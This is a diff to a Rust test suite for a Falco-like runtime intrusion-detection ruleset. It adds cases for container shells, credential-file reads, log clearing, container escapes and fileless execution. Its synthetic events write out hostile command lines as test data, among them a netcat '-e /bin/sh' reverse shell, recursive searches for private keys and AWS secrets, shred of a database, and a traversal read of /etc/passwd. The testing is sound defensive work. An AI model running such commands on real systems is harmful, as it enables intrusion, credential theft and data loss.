@@ -84,6 +84,13 @@ fn world() -> InitialState {
         shell: "/bin/sh".into(),
     });
     st.users.push(UserInfo {
+        uid: 33,
+        gid: 33,
+        name: "www-data".into(),
+        homedir: "/var/www".into(),
+        shell: "/usr/sbin/nologin".into(),
+    });
+    st.users.push(UserInfo {
         uid: 1000,
         gid: 1000,
         name: "alice".into(),
@@ -165,7 +172,7 @@ fn assert_quiet(rule: &str, events: Vec<EventBuilder>) {
 #[test]
 fn every_rule_loads_compiles_and_has_desc_output_priority_and_mitre_tags() {
     let set = ruleset();
-    assert!(set.rules.len() >= 16, "{}", set.rules.len());
+    assert!(set.rules.len() >= 36, "{}", set.rules.len());
     for r in &set.rules {
         assert!(!r.output.is_empty(), "{}", r.name);
         assert!(
@@ -186,71 +193,84 @@ fn every_rule_loads_compiles_and_has_desc_output_priority_and_mitre_tags() {
     }
 }
 
+/// `exec` with a controlling terminal (tty 34816 = /dev/pts/0).
+fn exec_tty(
+    tid: i64,
+    ptid: i64,
+    comm: &str,
+    args: &[&str],
+    uid: u32,
+    container: bool,
+) -> EventBuilder {
+    exec(tid, ptid, comm, args, uid, container).set("tty", 34816)
+}
+
 #[test]
-fn shell_in_container() {
+fn terminal_shell_in_container() {
+    // kubectl exec -it: the runtime (runc) starts a shell with a terminal.
     assert_fires(
-        "Shell Spawned in Container",
-        vec![exec(600, 500, "sh", &["-c", "id"], 0, true)],
+        "Terminal shell in container",
+        vec![exec_tty(600, 400, "bash", &[], 0, true)],
     );
+    // A shell the runtime starts without a terminal is a container's
+    // entrypoint script: ordinary.
     assert_quiet(
-        "Shell Spawned in Container",
-        vec![exec(600, 200, "sh", &["-c", "id"], 1000, false)],
+        "Terminal shell in container",
+        vec![exec(600, 400, "sh", &["-c", "/entrypoint.sh"], 0, true)],
+    );
+    // A terminal shell on the host.
+    assert_quiet(
+        "Terminal shell in container",
+        vec![exec_tty(600, 400, "bash", &[], 0, false)],
     );
 }
 
 #[test]
 fn shell_under_a_server() {
     assert_fires(
-        "Shell Spawned by Server Process",
+        "Run shell untrusted",
         vec![exec(600, 300, "bash", &["-i"], 33, false)],
     );
     assert_quiet(
-        "Shell Spawned by Server Process",
+        "Run shell untrusted",
         vec![exec(600, 200, "bash", &["-i"], 1000, false)],
     );
-}
-
-#[test]
-fn shell_attached_by_the_runtime() {
-    assert_fires(
-        "Shell Attached by Container Runtime",
-        vec![exec(600, 400, "bash", &[], 0, true)],
-    );
+    // A command line the ruleset knows to be harmless.
     assert_quiet(
-        "Shell Attached by Container Runtime",
-        vec![exec(600, 400, "nginx", &[], 0, true)],
+        "Run shell untrusted",
+        vec![exec(600, 300, "sh", &["-c", "whoami"], 33, false)],
     );
 }
 
 #[test]
 fn sensitive_file_read() {
     assert_fires(
-        "Sensitive File Read by Untrusted Program",
+        "Read sensitive file untrusted",
         vec![
             exec(600, 200, "cat", &["/etc/shadow"], 1000, false),
             openat(600, 3, "/etc/shadow", O_RDONLY),
         ],
     );
+    // Beyond Falco's list: group password hashes.
     assert_fires(
-        "Sensitive File Read by Untrusted Program",
-        vec![openat(
-            500,
-            3,
-            "/var/run/secrets/kubernetes.io/serviceaccount/token",
-            O_RDONLY,
-        )],
+        "Read sensitive file untrusted",
+        vec![openat(500, 3, "/etc/gshadow", O_RDONLY)],
+    );
+    assert_fires(
+        "Read sensitive file untrusted",
+        vec![openat(500, 3, "/etc/sudoers.d/90-cloud", O_RDONLY)],
     );
     assert_quiet(
-        "Sensitive File Read by Untrusted Program",
+        "Read sensitive file untrusted",
         vec![openat(100, 3, "/etc/shadow", O_RDONLY)],
     );
     assert_quiet(
-        "Sensitive File Read by Untrusted Program",
+        "Read sensitive file untrusted",
         vec![openat(200, 3, "/etc/passwd", O_RDONLY)],
     );
     // A failed open reads nothing.
     assert_quiet(
-        "Sensitive File Read by Untrusted Program",
+        "Read sensitive file untrusted",
         vec![openat(200, -13, "/etc/shadow", O_RDONLY)],
     );
 }
@@ -311,17 +331,24 @@ fn remote_admin_and_unexpected_outbound_connections() {
         "Unexpected Outbound Connection from Container",
         vec![socket_exit(200, 5), connect(200, 5, [203, 0, 113, 7], 4444)],
     );
+    // Pod-to-pod and service traffic stays on private addresses.
+    assert_quiet(
+        "Unexpected Outbound Connection from Container",
+        vec![socket_exit(500, 5), connect(500, 5, [10, 96, 0, 12], 5432)],
+    );
+}
+
+fn dup2(tid: u64, old: i64, new: i64) -> EventBuilder {
+    EventBuilder::new(C::SYSCALL_DUP2_X)
+        .tid(tid)
+        .set("res", new)
+        .set("oldfd", old)
+        .set("newfd", new)
 }
 
 #[test]
 fn reverse_shell() {
-    let dup2 = |old: i64, new: i64| {
-        EventBuilder::new(C::SYSCALL_DUP2_X)
-            .tid(600)
-            .set("res", new)
-            .set("oldfd", old)
-            .set("newfd", new)
-    };
+    let dup2 = |old: i64, new: i64| dup2(600, old, new);
     assert_fires(
         "Reverse Shell",
         vec![
@@ -336,6 +363,26 @@ fn reverse_shell() {
         "Reverse Shell",
         vec![
             exec(600, 200, "bash", &[], 1000, false),
+            openat(600, 3, "/tmp/x", O_RDONLY),
+            dup2(3, 0),
+        ],
+    );
+    // In a container the Falco-named rule reports it, and only it.
+    let in_container = vec![
+        exec(600, 500, "bash", &["-i"], 0, true),
+        socket_exit(600, 3),
+        connect(600, 3, [198, 51, 100, 1], 4444),
+        dup2(3, 0),
+    ];
+    assert_fires(
+        "Redirect STDOUT/STDIN to Network Connection in Container",
+        in_container.clone(),
+    );
+    assert_quiet("Reverse Shell", in_container);
+    assert_quiet(
+        "Redirect STDOUT/STDIN to Network Connection in Container",
+        vec![
+            exec(600, 500, "bash", &[], 0, true),
             openat(600, 3, "/tmp/x", O_RDONLY),
             dup2(3, 0),
         ],
@@ -434,6 +481,9 @@ fn kernel_modules() {
             .set("flags", 0)
     };
     assert_fires("Kernel Module Loaded", vec![finit(200)]);
+    // From a container: the Falco-named rule's business (it also needs
+    // CAP_SYS_MODULE, which this thread lacks).
+    assert_quiet("Kernel Module Loaded", vec![finit(500)]);
     assert_quiet(
         "Kernel Module Loaded",
         vec![
@@ -455,8 +505,11 @@ fn ptrace_attach() {
             .set("request", r)
             .set("pid", 300)
     };
-    assert_fires("Process Attached with Ptrace", vec![pt("PTRACE_ATTACH")]);
-    assert_quiet("Process Attached with Ptrace", vec![pt("PTRACE_PEEKDATA")]);
+    assert_fires("PTRACE attached to process", vec![pt("PTRACE_ATTACH")]);
+    assert_fires("PTRACE attached to process", vec![pt("PTRACE_POKETEXT")]);
+    assert_quiet("PTRACE attached to process", vec![pt("PTRACE_PEEKDATA")]);
+    assert_fires("PTRACE anti-debug attempt", vec![pt("PTRACE_TRACEME")]);
+    assert_quiet("PTRACE anti-debug attempt", vec![pt("PTRACE_ATTACH")]);
 }
 
 #[test]
@@ -469,9 +522,31 @@ fn logs_and_history_cleared() {
             .set("name", name)
             .set("flags", 0)
     };
+    // Truncating a log in /var/log: Falco's rule, not a second alert of ours.
+    let truncate_log = vec![openat(200, 3, "/var/log/auth.log", O_WRONLY | O_TRUNC)];
+    assert_fires("Clear Log Activities", truncate_log.clone());
+    assert_quiet("Log or Shell History Cleared", truncate_log);
+    assert_quiet(
+        "Clear Log Activities",
+        vec![openat(200, 3, "/var/log/auth.log", O_WRONLY)],
+    );
     assert_fires(
         "Log or Shell History Cleared",
-        vec![openat(200, 3, "/var/log/auth.log", O_WRONLY | O_TRUNC)],
+        vec![openat(
+            200,
+            3,
+            "/home/alice/.bash_history",
+            O_WRONLY | O_TRUNC,
+        )],
+    );
+    assert_fires(
+        "Log or Shell History Cleared",
+        vec![openat(
+            200,
+            3,
+            "/var/log/audit/audit.log",
+            O_WRONLY | O_TRUNC,
+        )],
     );
     assert_fires(
         "Log or Shell History Cleared",
@@ -479,11 +554,280 @@ fn logs_and_history_cleared() {
     );
     assert_quiet(
         "Log or Shell History Cleared",
-        vec![openat(200, 3, "/var/log/auth.log", O_WRONLY)],
+        vec![openat(200, 3, "/home/alice/.bash_history", O_WRONLY)],
     );
     assert_quiet(
         "Log or Shell History Cleared",
         vec![unlinkat("/tmp/notes.txt")],
+    );
+}
+
+#[test]
+fn searching_for_secrets() {
+    assert_fires(
+        "Search Private Keys or Passwords",
+        vec![exec(
+            600,
+            200,
+            "grep",
+            &["-r", "BEGIN RSA PRIVATE", "/home"],
+            1000,
+            false,
+        )],
+    );
+    assert_fires(
+        "Search Private Keys or Passwords",
+        vec![exec(
+            600,
+            200,
+            "find",
+            &["/", "-name", "id_rsa"],
+            1000,
+            false,
+        )],
+    );
+    assert_quiet(
+        "Search Private Keys or Passwords",
+        vec![exec(600, 200, "grep", &["-r", "TODO", "src"], 1000, false)],
+    );
+    assert_fires(
+        "Find AWS Credentials",
+        vec![exec(
+            600,
+            200,
+            "grep",
+            &["-ri", "aws_secret_access_key", "/"],
+            1000,
+            false,
+        )],
+    );
+    assert_quiet(
+        "Find AWS Credentials",
+        vec![exec(
+            600,
+            200,
+            "find",
+            &["/", "-name", "*.log"],
+            1000,
+            false,
+        )],
+    );
+}
+
+#[test]
+fn netcat_running_a_program_in_a_container() {
+    assert_fires(
+        "Netcat Remote Code Execution in Container",
+        vec![exec(
+            600,
+            500,
+            "nc",
+            &["198.51.100.1", "4444", "-e", "/bin/sh"],
+            0,
+            true,
+        )],
+    );
+    assert_quiet(
+        "Netcat Remote Code Execution in Container",
+        vec![exec(600, 500, "nc", &["-z", "db", "5432"], 0, true)],
+    );
+}
+
+#[test]
+fn data_destruction() {
+    assert_fires(
+        "Remove Bulk Data from Disk",
+        vec![exec(600, 200, "shred", &["-u", "/srv/db.sqlite"], 0, false)],
+    );
+    assert_quiet(
+        "Remove Bulk Data from Disk",
+        vec![exec(600, 200, "rm", &["/tmp/x"], 0, false)],
+    );
+}
+
+#[test]
+fn links_to_sensitive_files() {
+    let symlink = |target: &str| {
+        EventBuilder::new(C::SYSCALL_SYMLINKAT_X)
+            .tid(200)
+            .set("res", 0)
+            .set("target", target)
+            .set("linkdirfd", AT_FDCWD)
+            .set("linkpath", "/tmp/l")
+    };
+    assert_fires(
+        "Create Symlink Over Sensitive Files",
+        vec![symlink("/etc/shadow")],
+    );
+    assert_fires(
+        "Create Symlink Over Sensitive Files",
+        vec![symlink("/root")],
+    );
+    assert_quiet(
+        "Create Symlink Over Sensitive Files",
+        vec![symlink("/etc/hosts")],
+    );
+    let link = |old: &str| {
+        EventBuilder::new(C::SYSCALL_LINKAT_2_X)
+            .tid(200)
+            .set("res", 0)
+            .set("olddir", AT_FDCWD)
+            .set("oldpath", old)
+            .set("newdir", AT_FDCWD)
+            .set("newpath", "/tmp/l")
+            .set("flags", 0)
+    };
+    assert_fires(
+        "Create Hardlink Over Sensitive Files",
+        vec![link("/etc/sudoers")],
+    );
+    assert_quiet(
+        "Create Hardlink Over Sensitive Files",
+        vec![link("/etc/hosts")],
+    );
+}
+
+#[test]
+fn packet_sockets_in_containers() {
+    let packet = |tid: i64| socket_exit(tid, 4).set("domain", 0x11);
+    assert_fires("Packet socket created in container", vec![packet(500)]);
+    assert_quiet("Packet socket created in container", vec![packet(200)]);
+    assert_quiet(
+        "Packet socket created in container",
+        vec![socket_exit(500, 4)],
+    );
+}
+
+#[test]
+fn execution_from_dev_shm() {
+    assert_fires(
+        "Execution from /dev/shm",
+        vec![exec(600, 200, "/dev/shm/x", &[], 1000, false)],
+    );
+    assert_fires(
+        "Execution from /dev/shm",
+        vec![exec(600, 200, "sh", &["/dev/shm/run.sh"], 1000, false)],
+    );
+    assert_quiet(
+        "Execution from /dev/shm",
+        vec![exec(600, 200, "/usr/bin/ls", &["/dev/shm"], 1000, false)],
+    );
+}
+
+#[test]
+fn ssh_to_a_non_standard_port() {
+    let ssh = |dst: [u8; 4], port: u16| {
+        vec![
+            exec(600, 200, "/usr/bin/ssh", &["-p", "443", "x"], 1000, false),
+            socket_exit(600, 3),
+            connect(600, 3, dst, port),
+        ]
+    };
+    assert_fires(
+        "Disallowed SSH Connection Non Standard Port",
+        ssh([198, 51, 100, 1], 443),
+    );
+    assert_quiet(
+        "Disallowed SSH Connection Non Standard Port",
+        ssh([198, 51, 100, 1], 22),
+    );
+    // A private address is not outbound in Falco's sense.
+    assert_quiet(
+        "Disallowed SSH Connection Non Standard Port",
+        ssh([192, 168, 1, 1], 443),
+    );
+}
+
+/// CAP_* bits as in capability.h.
+const CAP_DAC_OVERRIDE: u64 = 1 << 1;
+const CAP_SYS_MODULE: u64 = 1 << 16;
+const CAP_SYS_ADMIN: u64 = 1 << 21;
+
+#[test]
+fn container_escapes_with_capabilities() {
+    let with_caps =
+        |caps: u64| exec(600, 500, "sh", &["-c", "x"], 0, true).set("cap_effective", caps);
+    let release_agent = |caps: u64| {
+        vec![
+            with_caps(caps),
+            openat(600, 3, "/tmp/cgrp/release_agent", O_WRONLY),
+        ]
+    };
+    assert_fires(
+        "Detect release_agent File Container Escapes",
+        release_agent(CAP_SYS_ADMIN | CAP_DAC_OVERRIDE),
+    );
+    assert_quiet(
+        "Detect release_agent File Container Escapes",
+        release_agent(CAP_DAC_OVERRIDE),
+    );
+    let finit = EventBuilder::new(C::SYSCALL_FINIT_MODULE_X)
+        .tid(600)
+        .set("res", 0)
+        .set("fd", 3)
+        .set("uargs", "")
+        .set("flags", 0);
+    assert_fires(
+        "Linux Kernel Module Injection Detected",
+        vec![with_caps(CAP_SYS_MODULE), finit.clone()],
+    );
+    assert_quiet(
+        "Linux Kernel Module Injection Detected",
+        vec![with_caps(CAP_SYS_ADMIN), finit],
+    );
+}
+
+#[test]
+fn executables_from_the_upper_layer_or_memory() {
+    let flagged = |comm: &str, flags: u32| exec(600, 500, comm, &[], 0, true).set("flags", flags);
+    let upper = falco_abi::flag_tables::execve_flags::EXE_UPPER_LAYER;
+    let memfd = falco_abi::flag_tables::execve_flags::EXE_FROM_MEMFD;
+    assert_fires(
+        "Drop and execute new binary in container",
+        vec![flagged("xploit", upper)],
+    );
+    assert_quiet(
+        "Drop and execute new binary in container",
+        vec![flagged("ls", 0)],
+    );
+    assert_fires(
+        "Fileless execution via memfd_create",
+        vec![flagged("x", memfd)],
+    );
+    // runc clones itself into a memfd to start containers.
+    assert_quiet(
+        "Fileless execution via memfd_create",
+        vec![flagged("runc", memfd)],
+    );
+}
+
+#[test]
+fn service_account_at_a_terminal() {
+    // www-data (uid 33) running a command from an SSH session.
+    assert_fires(
+        "System user interactive",
+        vec![exec(600, 100, "id", &[], 33, false)],
+    );
+    assert_quiet(
+        "System user interactive",
+        vec![exec(600, 100, "id", &[], 1000, false)],
+    );
+}
+
+#[test]
+fn reads_through_directory_traversal() {
+    assert_fires(
+        "Directory traversal monitored file read",
+        vec![openat(
+            300,
+            3,
+            "/var/www/html/../../../etc/passwd",
+            O_RDONLY,
+        )],
+    );
+    assert_quiet(
+        "Directory traversal monitored file read",
+        vec![openat(300, 3, "/etc/passwd", O_RDONLY)],
     );
 }
 
@@ -506,15 +850,13 @@ fn replayed_vm_captures() {
     };
     let shadow = run("vm_cat_shadow.scap.gz");
     assert!(
-        shadow.contains(&"Sensitive File Read by Untrusted Program".to_string()),
+        shadow.contains(&"Read sensitive file untrusted".to_string()),
         "{shadow:?}"
     );
     let bench = run("vm_bench_small.scap.gz");
     eprintln!("vm_bench_small: {bench:?}");
     assert!(
-        bench
-            .iter()
-            .all(|r| r == "Sensitive File Read by Untrusted Program"),
+        bench.iter().all(|r| r == "Read sensitive file untrusted"),
         "{bench:?}"
     );
 }
